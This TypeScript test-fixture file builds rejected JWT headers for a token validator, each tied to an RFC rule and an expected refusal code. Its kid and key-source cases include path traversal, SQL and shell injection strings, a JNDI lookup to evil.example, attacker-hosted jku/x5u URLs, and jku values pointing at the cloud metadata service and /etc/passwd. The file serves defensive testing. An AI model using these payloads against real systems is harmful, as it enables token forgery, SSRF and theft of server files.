import { entries } from "./entry.ts";
import type { BadToken, Refusal } from "./entry.ts";
import { publicJwk, publicKey } from "../keys.ts";
import { API, AUTH0, PLATFORM, token } from "../settings.ts";
import type { Json } from "../settings.ts";
import { compact, signWith } from "../token.ts";

function header(members: Json): () => string {
  return () => token(API, {}, members);
}

/** Entries that differ in one header parameter. */
function each(
  rule: string,
  source: string,
  refusal: Refusal,
  tokens: Record<string, () => string>,
): BadToken[] {
  const table = Object.entries(tokens).map(([name, make]) => [name, [rule, source, make, refusal]] as const);
  return entries(PLATFORM, Object.fromEntries(table));
}

const KEY_IDS: BadToken[] = [
  ...each(
    "kid is a text",
    "RFC 7515 section 4.1.4",
    { code: "HEADER_KID_INVALID" },
    {
      "kid-number": header({ kid: 1 }),
      "kid-list": header({ kid: ["rsa"] }),
      "kid-object": header({ kid: { toString: "rsa" } }),
      "kid-true": header({ kid: true }),
      "kid-null": header({ kid: null }),
      "kid-empty": header({ kid: "" }),
      "kid-of-257-characters": header({ kid: "k".repeat(257) }),
      "kid-of-8000-characters": header({ kid: "k".repeat(8_000) }),
    },
  ),
  ...each(
    "kid is the id of a key of the issuer",
    "RFC 8725 section 3.10",
    { code: "KEY_UNKNOWN" },
    {
      "kid-path": header({ kid: "../../../../../../dev/null" }),
      "kid-path-windows": header({ kid: "..\\..\\windows\\win.ini" }),
      "kid-sql": header({ kid: "x' UNION SELECT 'secret' --" }),
      "kid-shell": header({ kid: "rsa;id|cat" }),
      "kid-url": header({ kid: "https://evil.example/keys#rsa" }),
      "kid-template": header({ kid: "${jndi:ldap://evil.example/a}" }),
      "kid-proto": header({ kid: "__proto__" }),
      "kid-constructor": header({ kid: "constructor" }),
      "kid-in-capitals": header({ kid: "RSA" }),
      "kid-with-space": header({ kid: "rsa " }),
      "kid-with-nul": header({ kid: "rsa\0" }),
      "kid-homoglyph": header({ kid: "rs\u0430" }),
      "kid-of-another-issuer": header({ kid: "cognito" }),
      "kid-missing-with-several-keys": header({ kid: undefined }),
    },
  ),
];

const ATTACKER = publicJwk("rsa-attacker", "rsa", { alg: "RS256" });

/** Signed by the attacker's key, with a header that says where it is. */
function ownKey(members: Json): () => string {
  return () => compact({ ...API.header, ...members }, API.claims, signWith("rsa-attacker", "RS256"));
}

const KEY_SOURCES: BadToken[] = each(
  "Keys come from the issuer, never from the token",
  "RFC 8725 section 3.10",
  { code: "HEADER_KEY_SOURCE_FORBIDDEN" },
  {
    "jwk-of-the-attacker": ownKey({ jwk: ATTACKER }),
    "jwk-of-the-attacker-without-kid": ownKey({ jwk: ATTACKER, kid: undefined }),
    "jwk-of-the-issuer": header({ jwk: publicJwk("rsa", "rsa") }),
    "jwk-null": header({ jwk: null }),
    "jku-of-the-attacker": ownKey({ jku: "https://evil.example/keys" }),
    "jku-of-the-issuer": header({ jku: API.contract.jwksUri }),
    "jku-to-the-metadata-service": ownKey({ jku: "http://169.254.169.254/latest/meta-data/" }),
    "jku-to-a-file": ownKey({ jku: "file:///etc/passwd" }),
    "x5u-of-the-attacker": ownKey({ x5u: "https://evil.example/cert.pem" }),
    "x5c-of-the-attacker": ownKey({
      x5c: [publicKey("rsa-attacker").export({ type: "spki", format: "der" }).toString("base64")],
    }),
    "x5c-empty": header({ x5c: [] }),
  },
);

const EXTENSIONS: BadToken[] = [
  ...each(
    "An extension that is not understood is refused",
    "RFC 7515 section 4.1.11",
    { code: "HEADER_CRIT_UNSUPPORTED" },
    {
      "crit-unknown": header({
        crit: ["http://example.com/UNDEFINED"],
        "http://example.com/UNDEFINED": true,
      }),
      "crit-of-a-known-parameter": header({ crit: ["alg"] }),
      "crit-of-exp": header({ crit: ["exp"], exp: 1 }),
      "crit-empty": header({ crit: [] }),
      "crit-text": header({ crit: "b64" }),
      "crit-null": header({ crit: null }),
      "crit-b64": header({ crit: ["b64"], b64: false }),
    },
  ),
  ...each(
    "A token has a payload in base64url",
    "RFC 7797 section 7",
    { code: "HEADER_B64_UNSUPPORTED" },
    {
      "b64-false-without-crit": header({ b64: false }),
      "b64-true": header({ b64: true }),
    },
  ),
  ...each(
    "The payload is a set of claims, not a token in a token",
    "RFC 7519 section 5.2",
    {
      code: "HEADER_CONTENT_TYPE_UNSUPPORTED",
    },
    {
      "cty-jwt": () => compact({ ...API.header, cty: "JWT" }, token(API), signWith("rsa", "RS256")),
      "cty-null": header({ cty: null }),
    },
  ),
];

const TYPES: BadToken[] = [
  ...each(
    "Another kind of token has another typ",
    "RFC 8725 section 3.11",
    { code: "HEADER_TYPE_NOT_ALLOWED" },
    {
      "typ-at-jwt-where-jwt-is-expected": header({ typ: "at+jwt" }),
      "typ-dpop-proof": header({ typ: "dpop+jwt" }),
      "typ-logout-token": header({ typ: "logout+jwt" }),
      "typ-security-event": header({ typ: "secevent+jwt" }),
      "typ-introspection": header({ typ: "token-introspection+jwt" }),
      "typ-client-assertion": header({ typ: "client-authentication+jwt" }),
      "typ-jwe": header({ typ: "JWE" }),
      "typ-jose-json": header({ typ: "JOSE+JSON" }),
      "typ-application-twice": header({ typ: "application/application/jwt" }),
      "typ-text-jwt": header({ typ: "text/jwt" }),
      "typ-with-parameter": header({ typ: "application/jwt;charset=utf-8" }),
      "typ-with-space": header({ typ: "JWT " }),
      "typ-empty": header({ typ: "" }),
      "typ-null": header({ typ: null }),
      "typ-number": header({ typ: 1 }),
      "typ-list": header({ typ: ["JWT"] }),
      "typ-with-nul": header({ typ: "JWT\0" }),
    },
  ),
  ...each(
    "An access token of RFC 9068 says so",
    "RFC 9068 section 4",
    { code: "HEADER_TYPE_NOT_ALLOWED" },
    {
      "auth0-typ-jwt": () => token(AUTH0, {}, { typ: "JWT" }),
      "auth0-typ-missing": () => token(AUTH0, {}, { typ: undefined }),
      "auth0-typ-homoglyph": () => token(AUTH0, {}, { typ: "\u0430t+jwt" }),
      "auth0-typ-with-path": () => token(AUTH0, {}, { typ: "application/x/at+jwt" }),
    },
  ),
];

export const HEADER: readonly BadToken[] = [...KEY_IDS, ...KEY_SOURCES, ...EXTENSIONS, ...TYPES];
